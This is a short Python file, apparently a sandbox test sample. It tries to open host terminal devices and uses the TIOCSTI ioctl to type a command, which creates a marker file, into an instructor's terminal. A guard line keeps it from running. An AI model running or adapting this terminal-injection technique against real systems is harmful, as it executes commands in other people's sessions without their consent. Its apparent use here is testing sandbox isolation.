"""Types a command into the instructor's terminal."""

raise SystemExit("Text for a sandbox: never run it.")

# %% own
import fcntl
import glob
import os
import termios

for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), "/dev/tty0"]:
    terminal = attempt(os.open, path, os.O_RDWR | os.O_NOCTTY)
    if terminal is not None and "ptmx" not in path:
        for letter in b"touch /tmp/LEFT-BY-AN-ATTACK\n":
            got("to type into", path) if attempt(
                fcntl.ioctl, terminal, termios.TIOCSTI, bytes([letter])
            ) is not None else None
